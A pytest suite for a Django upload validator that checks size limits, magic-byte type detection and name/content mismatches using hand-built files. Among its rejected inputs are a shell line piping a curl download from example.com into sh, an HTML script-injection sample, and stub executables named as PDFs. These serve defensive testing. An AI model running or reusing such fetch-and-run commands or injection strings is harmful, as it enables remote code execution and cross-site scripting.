"""Tests of workflows.uploads: size, content type by magic bytes, and name/content agreement.

Every file is built here, byte by byte, so that the tests need no fixtures on disk.

Decision documented by these tests: text that starts like HTML, SVG/XML or a ``#!``
script is not plain text. It is refused as an unsupported type even when it is called
``.txt`` (see ``test_html_named_txt_is_rejected``), and plain text called ``.html`` is
refused because ``.html`` is not an accepted extension.
"""

from __future__ import annotations

import base64
import contextlib
import io
import struct
import zipfile

import filetype
import pytest
from django import forms
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import (
    InMemoryUploadedFile,
    SimpleUploadedFile,
    TemporaryUploadedFile,
)
from django.utils import translation

from tests.factories import make_png
from workflows.uploads import (
    ACCEPTED_EXTENSIONS,
    ALLOWED_TYPES,
    UploadValidator,
    detect_content_type,
    validate_upload,
)

MiB = 1024 * 1024
PDF = "application/pdf"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
PPTX = "application/vnd.openxmlformats-officedocument.presentationml.presentation"
OLE = "application/x-ole-storage"


@pytest.fixture(autouse=True)
def english():
    """The project's default language is Chinese; the messages are asserted in English."""
    with translation.override("en"):
        yield


# --- Building real small files -------------------------------------------------------


def make_pdf() -> bytes:
    return (
        b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"
        b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
        b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"
    )


def make_jpeg() -> bytes:
    """SOI + JFIF APP0 segment + EOI: the magic bytes of every JPEG/JFIF file."""
    app0 = b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    return b"\xff\xd8\xff\xe0" + struct.pack(">H", len(app0) + 2) + app0 + b"\xff\xd9"


# The classic 1x1 transparent GIF and a 1x1 lossless WEBP.
GIF_1X1 = (
    b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00"
    b",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
)
WEBP_1X1 = base64.b64decode("UklGRhoAAABXRUJQVlA4TA0AAAAvAAAAEAcQERGIiP4HAA==")

CONTENT_TYPES_XML = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="xml" ContentType="application/xml"/></Types>'
)


def make_zip(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def make_docx(*, first_entry: str | None = None) -> bytes:
    """A minimal docx; ``first_entry`` is put before ``[Content_Types].xml`` in the zip."""
    entries = {first_entry: b"<item/>"} if first_entry else {}
    entries |= {
        "[Content_Types].xml": CONTENT_TYPES_XML,
        "_rels/.rels": b"<Relationships/>",
        "word/document.xml": b"<w:document><w:body><w:p/></w:body></w:document>",
    }
    return make_zip(entries)


def make_xlsx() -> bytes:
    return make_zip(
        {
            "[Content_Types].xml": CONTENT_TYPES_XML,
            "_rels/.rels": b"<Relationships/>",
            "xl/workbook.xml": b"<workbook><sheets/></workbook>",
            "xl/worksheets/sheet1.xml": b"<worksheet/>",
        }
    )


def make_pptx() -> bytes:
    return make_zip(
        {
            "[Content_Types].xml": CONTENT_TYPES_XML,
            "_rels/.rels": b"<Relationships/>",
            "ppt/presentation.xml": b"<p:presentation/>",
        }
    )


def make_ole() -> bytes:
    """The 512-byte header of an OLE2 compound file (doc/xls/ppt), then an empty sector."""
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16 + b"\x3e\x00\x03\x00\xfe\xff"
    return header.ljust(512, b"\x00") + b"\xff" * 512


def make_elf() -> bytes:
    return b"\x7fELF\x02\x01\x01" + b"\x00" * 9 + b"\x02\x00\x3e\x00" + b"\x00" * 100


def make_exe() -> bytes:
    """A DOS/PE header: "MZ", then the header fields (full of NUL bytes)."""
    return b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 200


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type="application/octet-stream")


def rejection(f: SimpleUploadedFile) -> ValidationError:
    with pytest.raises(ValidationError) as info:
        validate_upload(f)
    return info.value


def message(error: ValidationError) -> str:
    return error.messages[0]


# --- Accepted files ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content", "expected"),
    [
        ("work-order.pdf", make_pdf(), PDF),
        ("photo.png", make_png(), "image/png"),
        ("photo.jpg", make_jpeg(), "image/jpeg"),
        ("photo.JPEG", make_jpeg(), "image/jpeg"),
        ("anim.gif", GIF_1X1, "image/gif"),
        ("shot.webp", WEBP_1X1, "image/webp"),
        ("contract.docx", make_docx(), DOCX),
        ("budget.xlsx", make_xlsx(), XLSX),
        ("pitch.pptx", make_pptx(), PPTX),
        ("old-report.doc", make_ole(), OLE),
        ("old-budget.xls", make_ole(), OLE),
        ("old-pitch.ppt", make_ole(), OLE),
        ("SCAN.PDF", make_pdf(), PDF),
    ],
)
def test_accepted_files_return_their_detected_type(name, content, expected):
    f = upload(name, content)
    assert validate_upload(f) == expected
    assert detect_content_type(f) == expected


def test_utf8_csv_with_chinese_text_is_text():
    content = "客户,样品,数量\n华东区,饮料样品,12\n".encode()
    assert validate_upload(upload("客户名单.csv", content)) == "text/plain"


def test_utf8_csv_with_bom_is_text():
    content = "\ufeff客户,数量\n张三,3\n".encode()
    assert content.startswith(b"\xef\xbb\xbf")
    assert validate_upload(upload("export.csv", content)) == "text/plain"


def test_gb18030_text_is_text():
    content = "样品工作单：第一批，共十二件。\r\n".encode("gb18030")
    with pytest.raises(UnicodeDecodeError):
        content.decode("utf-8")  # really not UTF-8: the GB18030 branch is exercised
    assert validate_upload(upload("说明.txt", content)) == "text/plain"


def test_text_longer_than_the_sniffed_64_kib_with_a_character_cut_at_the_boundary():
    line = "华东区样品工作单\n".encode()  # 3-byte characters
    content = line * (70 * 1024 // len(line))
    assert len(content) > 64 * 1024
    assert content[: 64 * 1024].decode("utf-8", errors="ignore").encode() != content[: 64 * 1024]
    assert validate_upload(upload("long.txt", content)) == "text/plain"


def test_csv_that_starts_like_a_bmp_or_exe_signature_is_still_text():
    bmw = "BMW,宝马,3\nAudi,奥迪,2\n".encode()
    mz = b"MZ-001,sample,12\nMZ-002,sample,3\n"
    assert filetype.guess(bmw).mime == "image/bmp"  # filetype alone would refuse them
    assert filetype.guess(mz).mime == "application/x-msdownload"
    assert validate_upload(upload("cars.csv", bmw)) == "text/plain"
    assert validate_upload(upload("codes.csv", mz)) == "text/plain"


def test_docx_that_filetype_only_sees_as_zip_is_recognised_from_the_zip_directory():
    content = make_docx(first_entry="customXml/item1.xml")
    assert filetype.guess(content).mime == "application/zip"  # the path under test
    assert validate_upload(upload("contract.docx", content)) == DOCX


def test_docx_on_disk_as_temporary_uploaded_file():
    content = make_docx()
    f = TemporaryUploadedFile("contract.docx", "application/octet-stream", len(content), None)
    try:
        f.write(content)
        f.seek(0)
        assert validate_upload(f) == DOCX
        assert f.tell() == 0
    finally:
        f.close()


# --- Size ----------------------------------------------------------------------------


def test_file_larger_than_the_limit_is_rejected_with_the_limit_in_the_message(settings):
    settings.WORKFLOW_UPLOAD_MAX_BYTES = 1 * MiB
    f = upload("big.pdf", make_pdf().ljust(MiB + MiB // 2, b" "))
    error = rejection(f)
    assert error.code == "too_large"
    assert message(error) == "“big.pdf” is 1.5 MB; the limit is 1 MB."
    assert error.params["max_bytes"] == MiB


def test_file_exactly_at_the_limit_is_accepted(settings):
    settings.WORKFLOW_UPLOAD_MAX_BYTES = 4096
    assert validate_upload(upload("limit.pdf", make_pdf().ljust(4096, b" "))) == PDF


def test_size_message_with_the_default_limit(settings):
    settings.WORKFLOW_UPLOAD_MAX_BYTES = 10 * MiB
    f = upload("big.pdf", make_pdf())
    f.size = int(12.3 * MiB)  # the size the upload handler reported
    error = rejection(f)
    assert message(error) == "“big.pdf” is 12.3 MB; the limit is 10 MB."


def test_file_a_few_bytes_over_the_limit_does_not_look_equal_to_it(settings):
    settings.WORKFLOW_UPLOAD_MAX_BYTES = 10 * MiB
    f = upload("big.pdf", make_pdf())
    f.size = 10 * MiB + 1
    assert message(rejection(f)) == "“big.pdf” is 10.1 MB; the limit is 10 MB."


def test_small_limits_are_shown_in_kb(settings):
    settings.WORKFLOW_UPLOAD_MAX_BYTES = 512 * 1024
    error = rejection(upload("scan.png", make_png().ljust(600 * 1024, b"\x00")))
    assert error.code == "too_large"
    assert "the limit is 512 KB" in message(error)


def test_empty_file_is_rejected():
    error = rejection(upload("empty.pdf", b""))
    assert error.code == "empty"
    assert message(error) == "“empty.pdf” is empty."


# --- Content that does not match the name --------------------------------------------


def test_png_named_pdf_is_rejected_as_mislabelled():
    error = rejection(upload("contract.pdf", make_png()))
    assert error.code == "mislabelled"
    assert "contract.pdf" in message(error)
    assert "the content is a PNG image, but the name says PDF" in message(error)
    assert error.params["content_type"] == "image/png"


def test_docx_named_xlsx_is_rejected_as_mislabelled():
    error = rejection(upload("budget.xlsx", make_docx()))
    assert error.code == "mislabelled"
    assert "Word document" in message(error)
    assert "XLSX" in message(error)


def test_text_named_pdf_is_rejected_as_mislabelled():
    error = rejection(upload("contract.pdf", "这是一份合同。".encode()))
    assert error.code == "mislabelled"
    assert "the content is plain text, but the name says PDF" in message(error)


def test_legacy_office_file_named_docx_is_rejected_as_mislabelled():
    error = rejection(upload("report.docx", make_ole()))
    assert error.code == "mislabelled"
    assert "legacy Office document" in message(error)


# --- Unsupported content -------------------------------------------------------------

UNSUPPORTED = (
    "“%(name)s”: this type of file is not accepted. "
    "Accepted: PDF, images (PNG, JPEG, GIF, WEBP), Office documents, text and CSV."
)


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("invoice.pdf", make_elf()),
        ("invoice.pdf", make_exe()),
        ("invoice.pdf", b"#!/bin/sh\ncurl http://example.com/x | sh\n"),
        ("x.exe", make_exe()),
        ("notes.html", b"just some plain words\n"),
        ("page.html", b"<!DOCTYPE html><html><body>hi</body></html>"),
        ("logo.svg", b'<svg xmlns="http://www.w3.org/2000/svg"></svg>'),
        ("logo.png", b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"/>'),
        ("archive.zip", make_zip({"readme.txt": b"hello"})),
        ("archive.docx", make_zip({"readme.txt": b"hello"})),
        ("book.epub", make_zip({"mimetype": b"application/epub+zip"})),
        (
            "macro.docx",
            make_zip(
                {
                    "[Content_Types].xml": CONTENT_TYPES_XML,
                    "word/document.xml": b"<w:document/>",
                    "word/vbaProject.bin": b"\x00" * 32,
                }
            ),
        ),
        ("blob.txt", b"\x00\x01\x02binary\x00data\xff" * 10),
        ("photo.bmp", make_png()),
    ],
)
def test_unsupported_files_are_rejected(name, content):
    error = rejection(upload(name, content))
    assert error.code == "unsupported_type"
    assert message(error) == UNSUPPORTED % {"name": name}


def test_executables_are_detected_as_executables_not_as_pdf():
    assert detect_content_type(upload("invoice.pdf", make_elf())) == "application/x-executable"
    assert detect_content_type(upload("invoice.pdf", make_exe())) == "application/x-msdownload"


def test_plain_zip_named_docx_is_rejected():
    f = upload("contract.docx", make_zip({"readme.txt": b"not a Word document"}))
    assert detect_content_type(f) == "application/zip"
    assert rejection(f).code == "unsupported_type"


def test_binary_blob_with_nul_bytes_named_txt_is_rejected():
    f = upload("data.txt", b"abc\x00def" * 100)
    assert detect_content_type(f) is None
    assert rejection(f).code == "unsupported_type"


def test_html_named_txt_is_rejected():
    """Decision: HTML is not "plain text", whatever the name; a browser could render it."""
    f = upload("notes.txt", b"  <html><script>alert(1)</script></html>")
    assert detect_content_type(f) == "text/html"
    assert rejection(f).code == "unsupported_type"


def test_text_that_merely_mentions_html_is_plain_text():
    f = upload("notes.txt", b"Use <b>bold</b> in the newsletter.\n<p> tags too.\n")
    assert validate_upload(f) == "text/plain"


def test_file_without_extension_is_rejected():
    for name in ("contract", "contract."):
        error = rejection(upload(name, make_pdf()))
        assert error.code == "missing_extension"
        assert name in message(error)


def test_browser_content_type_header_is_ignored():
    f = SimpleUploadedFile("contract.pdf", make_png(), content_type="application/pdf")
    assert detect_content_type(f) == "image/png"
    assert rejection(f).code == "mislabelled"


# --- File position and reads ---------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.pdf", make_pdf()),
        ("a.docx", make_docx()),
        ("a.pdf", make_png()),
        ("a.docx", make_zip({"x.txt": b"x"})),
        ("a.txt", "文本".encode() * 30000),
    ],
)
def test_file_position_is_zero_after_validation(name, content):
    f = upload(name, content)
    f.read(5)  # whatever position the caller left it at
    with contextlib.suppress(ValidationError):
        validate_upload(f)
    assert f.tell() == 0
    assert f.read() == content  # nothing was consumed or changed


class ReadSpy(io.BytesIO):
    def __init__(self, content: bytes) -> None:
        super().__init__(content)
        self.reads: list[int] = []

    def read(self, size: int | None = -1) -> bytes:
        self.reads.append(-1 if size is None else size)
        return super().read(size)


def test_only_the_first_bytes_are_read():
    content = "样品".encode() * (1024 * 1024)  # 6 MiB of text
    spy = ReadSpy(content)
    f = InMemoryUploadedFile(spy, "file", "big.txt", "text/plain", len(content), None)
    assert validate_upload(f) == "text/plain"
    assert spy.reads
    assert all(0 < size <= 64 * 1024 for size in spy.reads)


def test_binary_types_read_no_more_than_the_signature():
    content = make_pdf().ljust(MiB, b" ")
    spy = ReadSpy(content)
    f = InMemoryUploadedFile(spy, "file", "a.pdf", "application/pdf", len(content), None)
    assert validate_upload(f) == PDF
    assert spy.reads == [8192]


# --- Messages, validator class and form ----------------------------------------------


def test_messages_are_translatable_templates_with_params():
    error = rejection(upload("contract.pdf", make_png()))
    assert "%(name)s" in str(error.message)  # not pre-formatted: a translator sees a template
    assert error.params["name"] == "contract.pdf"
    with translation.override("zh-hans"):
        assert "contract.pdf" in error.messages[0]


def test_allowed_types_are_lowercase_extensions_owned_by_one_type():
    for extensions in ALLOWED_TYPES.values():
        for extension in extensions:
            assert extension.startswith(".")
            assert extension == extension.lower()
    assert len(ACCEPTED_EXTENSIONS) == len(set(ACCEPTED_EXTENSIONS))
    assert {".pdf", ".png", ".docx", ".xls", ".txt", ".csv"} <= set(ACCEPTED_EXTENSIONS)
    assert not {".html", ".svg", ".zip", ".exe"} & set(ACCEPTED_EXTENSIONS)


def test_validator_instance_is_callable_and_deconstructible():
    validator = UploadValidator()
    assert validator(upload("a.pdf", make_pdf())) is None
    with pytest.raises(ValidationError):
        validator(upload("a.pdf", make_png()))
    path, args, kwargs = validator.deconstruct()
    assert (path, args, kwargs) == ("workflows.uploads.UploadValidator", (), {})
    assert validator == UploadValidator()


class AttachmentForm(forms.Form):
    attachment = forms.FileField(validators=[UploadValidator()])


def test_form_with_validator_reports_a_field_error():
    form = AttachmentForm(data={}, files={"attachment": upload("setup.pdf", make_exe())})
    assert not form.is_valid()
    assert list(form.errors) == ["attachment"]
    assert form.errors.as_data()["attachment"][0].code == "unsupported_type"
    assert form.errors["attachment"] == [UNSUPPORTED % {"name": "setup.pdf"}]


def test_form_with_validator_accepts_a_valid_file():
    form = AttachmentForm(data={}, files={"attachment": upload("contract.docx", make_docx())})
    assert form.is_valid(), form.errors
    assert form.cleaned_data["attachment"].tell() == 0
